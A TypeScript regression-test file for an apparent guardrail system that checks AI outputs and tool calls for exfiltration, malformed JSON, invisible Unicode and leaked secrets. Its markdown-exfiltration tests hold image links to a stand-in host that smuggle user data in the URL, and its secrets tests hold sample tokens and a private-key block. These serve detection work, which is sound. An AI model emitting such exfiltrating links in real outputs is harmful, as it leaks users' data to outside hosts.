/** Regression tests for inputs that used to make a check throw, misjudge, or scan superlinearly. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ToolCall } from '../../../src/model/exchange.js';
import { getCheck } from '../../../src/policy/checks/registry.js';
import { fencedBody, nestsDeeper, parseJson } from '../../../src/policy/checks/support/json.js';
import { percentDecode } from '../../../src/policy/checks/support/percent.js';
import type { CheckInput } from '../../../src/policy/checks/types.js';
import { input } from '../../helpers/check-input.js';

function run(id: string, params: unknown, i: CheckInput) {
  const def = getCheck(id)!;
  return def.create(def.params.parse(params)).evaluate(i);
}
const withCalls = (toolCalls: ToolCall[], request = {}): CheckInput => ({
  ...input('', request),
  toolCalls,
});

describe('percentDecode', () => {
  it('equals decodeURIComponent wherever that does not throw', () => {
    const escape = fc
      .integer({ min: 0, max: 255 })
      .map((b) => `%${b.toString(16).padStart(2, '0')}`);
    fc.assert(
      fc.property(fc.array(fc.oneof(escape, fc.string({ maxLength: 3 }))), (xs) => {
        const s = xs.join('');
        let expected: string | undefined;
        try {
          expected = decodeURIComponent(s);
        } catch {
          expected = undefined;
        }
        const got = percentDecode(s);
        if (expected !== undefined) expect(got).toBe(expected);
      }),
      { numRuns: 2000 },
    );
  });

  it.each([
    ['%FF', '\ufffd'],
    ['a%E0%A4b', 'a\ufffdb'],
    ['100%', '100%'],
    ['%zz%4', '%zz%4'],
    ['%ED%A0%80', '\ufffd\ufffd\ufffd'],
    ['%41%42', 'AB'],
  ])('%j → %j, never a URIError', (s, out) => {
    expect(percentDecode(s)).toBe(out);
  });
});

describe('markdown-exfiltration on malformed escapes', () => {
  it.each([
    ['data after a lone %FF', '![x](https://evil.test/a%FF/user=jane)', true],
    [
      'a long opaque segment after a truncated escape',
      `![x](https://evil.test/%E0%A4/${'Zm9v'.repeat(10)})`,
      true,
    ],
    ['a plain image with a bad escape', '![x](https://evil.test/img%FF.png)', false],
  ])('%s', (_name, text, fails) => {
    expect(run('markdown-exfiltration', {}, input(text)).status).toBe(fails ? 'fail' : 'pass');
  });
});

describe('tool-calls', () => {
  const params = { require_declared: false, arguments: { f: { constructor: { max_length: 3 } } } };

  it('reads only own arguments (`constructor` is not the prototype’s)', () => {
    expect(
      run('tool-calls', params, withCalls([{ id: 'a', name: 'f', arguments: '{}' }])).status,
    ).toBe('pass');
    expect(
      run(
        'tool-calls',
        params,
        withCalls([{ id: 'a', name: 'f', arguments: '{"constructor":"long"}' }]),
      ),
    ).toMatchObject({ status: 'fail' });
  });

  it('reports no empty span for empty arguments', () => {
    const out = run(
      'tool-calls',
      { deny: ['f'] },
      withCalls([{ id: 'a', name: 'f', arguments: '' }]),
    );
    expect(out).toMatchObject({ status: 'fail', spans: [] });
  });

  it('refuses arguments nested absurdly deep instead of overflowing the validator', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    const out = run(
      'tool-calls',
      {},
      withCalls([{ id: 'a', name: 'f', arguments: deep }], {
        tools: [{ name: 'f', parameters: { type: 'array', items: { $ref: '#' } } }],
      }),
    );
    expect(out).toMatchObject({
      status: 'fail',
      detail: 'tool call 0: arguments are nested deeper than 512 levels',
    });
  });
});

describe('json-schema', () => {
  const recursive = { type: 'array', items: { $ref: '#' } };

  it('fails, never throws, on JSON nested deeper than the validator can recurse', () => {
    const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
    expect(run('json-schema', { schema: recursive }, input(deep))).toMatchObject({
      status: 'fail',
      detail: 'output is nested deeper than 512 levels',
    });
    expect(run('json-schema', { schema: recursive }, input('[[[]],[]]')).status).toBe('pass');
  });

  it('treats an $async request schema as an error, not a pass (and leaves no rejection)', () => {
    const out = run(
      'json-schema',
      { schema_from: 'request' },
      input('{"a":1}', { responseSchema: { $async: true, type: 'string' } }),
    );
    expect(out.status).toBe('error');
  });

  it("does not let one request's $id break another's schema", () => {
    const a = { $id: 'https://example.com/shared.json', type: 'string' };
    const b = { $id: 'https://example.com/shared.json', type: 'number' };
    expect(
      run('json-schema', { schema_from: 'request' }, input('"x"', { responseSchema: a })).status,
    ).toBe('pass');
    expect(
      run('json-schema', { schema_from: 'request' }, input('42', { responseSchema: b })).status,
    ).toBe('pass');
    expect(
      run('json-schema', { schema_from: 'request' }, input('"x"', { responseSchema: b })).status,
    ).toBe('fail');
  });

  it.each([
    ['```json\n{"a":1}\n```', '{"a":1}'],
    ['  ```\n[1]\n  ```  ', '[1]'],
    ['```JSON \n{}\n```', '{}'],
    ['```json {"a":1}```', undefined],
    ['```json5\n{}\n```', undefined],
    ['no fence', undefined],
  ])('fencedBody(%j)', (text, body) => {
    expect(fencedBody(text)?.trim()).toBe(body);
  });

  it('parses a fence followed by 100,000 blank lines at once (the regex was cubic)', () => {
    const t0 = performance.now();
    expect(fencedBody(`\`\`\`\n${'\n '.repeat(50_000)}`)).toBeUndefined();
    expect(performance.now() - t0).toBeLessThan(1000);
  });

  it('parses JSON and measures nesting outside strings', () => {
    expect(nestsDeeper('["[[[[["]', 2)).toBe(false);
    expect(nestsDeeper('[[[1]]]', 2)).toBe(true);
    expect(parseJson('{"a":[1]}')).toEqual({ ok: true, value: { a: [1] } });
    expect(parseJson('{')).toEqual({ ok: false, why: 'not valid JSON' });
  });
});

describe('invisible-unicode', () => {
  it('redacts an unterminated flag tag sequence without taking the next character', () => {
    const text = '🏴\u{e0041}\u{e0042}X';
    const out = run('invisible-unicode', {}, input(text));
    expect(out).toMatchObject({ status: 'fail', spans: [{ start: 2, end: 6, replace: '' }] });
  });

  it('takes a whole ANSI sequence however many escapes follow', () => {
    const out = run(
      'invisible-unicode',
      { kinds: ['control'] },
      input('a\u001b[1;31mb\u001b]8;;x\u0007c'),
    );
    expect(out).toMatchObject({
      spans: [
        { start: 1, end: 8 },
        { start: 9, end: 16 },
      ],
    });
  });
});

describe('length', () => {
  it('counts code points, and stream text that was not kept', () => {
    expect(run('length', { max_chars: 2 }, input('😀😀')).status).toBe('pass');
    expect(run('length', { max_chars: 2 }, input('😀😀\ud800')).status).toBe('fail');
    expect(run('length', { max_chars: 10 }, { ...input('short'), omittedChars: 10 }).status).toBe(
      'fail',
    );
  });
});

describe('secrets', () => {
  it.each([
    [
      'a JWT',
      'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
    ],
    [
      'an npm registry token',
      '//registry.npmjs.org/:_authToken=npm_Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4zAb3d',
    ],
    [
      'a private key',
      `-----BEGIN RSA PRIVATE KEY-----\n${'MIIEowIBAAKCAQEA7'.repeat(6)}\n-----END RSA PRIVATE KEY-----`,
    ],
  ])('still finds %s', (_name, text) => {
    expect(run('secrets', {}, input(text)).status).toBe('fail');
  });
});

describe('json-schema details never quote the output', () => {
  it('names the schema location, not the output property', () => {
    const def = getCheck('json-schema')!;
    const check = def.create(
      def.params.parse({
        schema: { type: 'object', additionalProperties: { type: 'number' } },
      }),
    );
    const out = check.evaluate(input('{"AKIAQYLPMN5HHHFPZAM2": "x"}'));
    expect(out.status).toBe('fail');
    expect(out.status === 'fail' && out.detail).not.toContain('AKIA');
    expect(out.status === 'fail' && out.detail).toContain('#/additionalProperties');
  });
});
